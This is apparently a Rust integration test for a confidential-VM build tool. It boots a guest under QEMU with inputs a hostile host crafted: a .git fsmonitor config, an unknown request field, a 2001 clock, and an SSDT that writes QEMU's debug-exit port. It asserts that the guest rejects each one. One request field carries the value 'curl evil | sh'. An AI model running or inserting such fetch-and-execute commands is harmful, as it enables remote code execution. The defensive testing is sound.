//! A hostile host in the VM: the real image boots (QEMU under TCG, the
//! simulated PSP listening) with disks the host crafted to lie, through the
//! same QEMU command line `kettle build` uses. The guest must refuse each lie
//! at the step that checks it, write only error.json to the output disk, and
//! never ask the PSP for a report. Skips off CI when the image is not built.

use std::fs;
use std::path::Path;
use std::sync::atomic::AtomicBool;
use std::time::Duration;

use kettle::console::Progress;
use kettle::psp_host::PspServer;
use kettle::qemu::{self, Accel, Disks, Isolation, VmConfig};
use kettle_attest::simulated::SimulatedPsp;
use kettle_image::ImageManifest;
use kettle_testkit::hostile::{
    git_dir_with_fsmonitor, hostile_acpi_args, ssdt_writing_io_port, AML_RAN_EXIT_STATUS,
    DEBUG_EXIT_PORT, DEBUG_EXIT_VALUE,
};
use kettle_testkit::tarball::{entry, with_entries};
use kettle_testkit::{build_dir, Scenario};
use kettle_wire::output::{read_output_disk, ERROR_FILE, EVIDENCE_FILE, STATUS_FILE};
use kettle_wire::{ErrorReport, Step};

/// Pads a disk image to whole sectors (virtio-blk).
fn pad(path: &Path) {
    let len = fs::metadata(path).unwrap().len();
    let f = fs::OpenOptions::new().write(true).open(path).unwrap();
    f.set_len(len.div_ceil(512).max(1) * 512).unwrap();
}

/// How a VM of [`boot_with`] ended: what the guest wrote to its output disk,
/// its console, and QEMU's exit status.
struct Booted {
    out: tempfile::TempDir,
    console: String,
    status: std::process::ExitStatus,
}

/// Boots the image on `vcpus` vCPUs with `request` (the request disk's bytes),
/// `s`'s cache disk and `extra_qemu` appended to the launcher's own QEMU
/// arguments (what a hostile host's `--qemu` wrapper adds).
fn boot_with(
    image: &Path,
    work: &Path,
    request: Vec<u8>,
    s: &Scenario,
    vcpus: u32,
    extra_qemu: &[String],
) -> Booted {
    let manifest = ImageManifest::load(&image.join("manifest.json")).unwrap();
    let files = manifest.files_in(image).unwrap();
    fs::create_dir_all(work).unwrap();
    let req = work.join("request.img");
    fs::write(&req, request).unwrap();
    pad(&req);
    let cache = work.join("cache.img");
    s.write_cache_disk(&cache);
    pad(&cache);
    let output = work.join("output.img");
    fs::File::create(&output)
        .unwrap()
        .set_len(64 << 20)
        .unwrap();
    let sock = work.join("psp.sock");
    let psp = PspServer::start(&sock, SimulatedPsp::new(manifest.launch_digest.0)).unwrap();
    let isolation = Isolation::Simulated { psp_socket: sock };
    let cfg = VmConfig {
        cpu: qemu::cpu_model(&isolation, Accel::Tcg, "EPYC-v4"),
        isolation,
        accel: Accel::Tcg,
        vcpus,
        memory_mib: 1024,
        ovmf: files.ovmf.clone(),
        kernel: files.kernel.clone(),
        initrd: files.initrd.clone(),
        cmdline: manifest.cmdline.clone(),
        disks: Disks {
            request: req,
            cache: Some(cache),
            output: output.clone(),
        },
        network: false,
    };
    let mut argv = qemu::argv(&cfg);
    argv.extend(extra_qemu.iter().map(Into::into));
    let log = work.join("console.log");
    let run = kettle::vm::run(
        qemu::DEFAULT_QEMU,
        &argv,
        &log,
        Duration::from_secs(600),
        &AtomicBool::new(false),
        Progress::new(false),
    )
    .unwrap();
    psp.stop();
    let staging = tempfile::tempdir().unwrap();
    read_output_disk(&output, staging.path()).unwrap();
    let console = fs::read_to_string(&log).unwrap_or_default();
    let kettle::vm::VmEnd::Exited(status) = run.end else {
        panic!("{:?}\n{console}", run.end);
    };
    Booted {
        out: staging,
        console,
        status,
    }
}

/// The request disk as the host writes it, with the request's JSON replaced by `json`.
fn request_disk(json: &[u8]) -> Vec<u8> {
    with_entries(&[], &[entry("request.json", b'0', "", json)])
}

#[test]
fn the_guest_refuses_a_hostile_hosts_lies_in_the_vm() {
    let Some((image, _vm)) = crate::image_and_small_vm() else {
        return;
    };
    let tmp = tempfile::tempdir_in(build_dir()).unwrap();
    let project =
        || Scenario::script("mkdir -p out && echo hi > out/a.txt", &["out/a.txt"]).commit();

    // 1. A .git/config beside the verified tree (core.fsmonitor would run host commands).
    let mut s = project();
    s.archive = with_entries(&s.archive, &git_dir_with_fsmonitor());
    // 2. A request field the guest does not know (the request is never trusted blindly).
    let t = project();
    let mut unknown = serde_json::to_value(&t.request).unwrap();
    unknown["run_this"] = serde_json::json!("curl evil | sh");
    // 3. A clock set before kettle-init was built (provenance timestamps are the host's).
    let c = project();

    // (what the host did, the request bytes it sent, the scenario, extra QEMU args, the failing step)
    type Case<'a> = (&'a str, Vec<u8>, &'a Scenario, Vec<String>, Step);
    let cases: Vec<Case> = vec![
        (
            ".git in the source archive",
            serde_json::to_vec(&s.request).unwrap(),
            &s,
            vec![],
            Step::Verify,
        ),
        (
            "an unknown request field",
            serde_json::to_vec(&unknown).unwrap(),
            &t,
            vec![],
            Step::Request,
        ),
        (
            "a clock from 2001",
            serde_json::to_vec(&c.request).unwrap(),
            &c,
            vec!["-rtc".into(), "base=2001-01-01T00:00:00".into()],
            Step::Boot,
        ),
    ];
    for (i, (what, request, scenario, extra, step)) in cases.into_iter().enumerate() {
        let Booted { out, console, .. } = boot_with(
            &image,
            &tmp.path().join(format!("case{i}")),
            request_disk(&request),
            scenario,
            1,
            &extra,
        );
        let names: Vec<String> = fs::read_dir(out.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().into_string().unwrap())
            .collect();
        assert_eq!(
            names,
            [ERROR_FILE],
            "{what}: the output disk holds {names:?}\n{console}"
        );
        assert!(!out.path().join(EVIDENCE_FILE).exists() && !out.path().join(STATUS_FILE).exists());
        let err: ErrorReport =
            serde_json::from_slice(&fs::read(out.path().join(ERROR_FILE)).unwrap()).unwrap();
        assert_eq!(err.step, step, "{what}: {err:?}\n{console}");
        assert!(
            !console.contains("[attest] ok"),
            "{what}: a report was requested\n{console}"
        );
    }
}

/// BadAML: the host adds an SSDT whose module-level code writes QEMU's
/// `isa-debug-exit` port. The measured kernel never loads a definition block
/// (kernel-config/patches/0001-acpi-no-aml.patch), so the AML never runs: QEMU
/// does not exit with 67, the guest brings up both vCPUs from the static
/// tables, and the build completes and is attested.
#[test]
fn the_hosts_acpi_code_never_runs_in_the_guest() {
    let Some((image, _vm)) = crate::image_and_small_vm() else {
        return;
    };
    let tmp = tempfile::tempdir_in(build_dir()).unwrap();
    let ssdt = tmp.path().join("evil.aml");
    fs::write(
        &ssdt,
        ssdt_writing_io_port(DEBUG_EXIT_PORT, DEBUG_EXIT_VALUE),
    )
    .unwrap();
    let s = Scenario::script("mkdir -p out && echo hi > out/a.txt", &["out/a.txt"]).commit();
    let Booted {
        out,
        console,
        status,
    } = boot_with(
        &image,
        &tmp.path().join("vm"),
        request_disk(&serde_json::to_vec(&s.request).unwrap()),
        &s,
        2,
        &hostile_acpi_args(&ssdt),
    );
    assert_ne!(
        status.code(),
        Some(AML_RAN_EXIT_STATUS),
        "the guest kernel ran the host's AML\n{console}"
    );
    assert!(
        console.contains("2 CPUs online"),
        "the guest did not bring up both vCPUs\n{console}"
    );
    assert!(
        out.path().join(EVIDENCE_FILE).exists() && out.path().join(STATUS_FILE).exists(),
        "the build did not complete\n{console}"
    );
    assert!(!out.path().join(ERROR_FILE).exists(), "{console}");
}
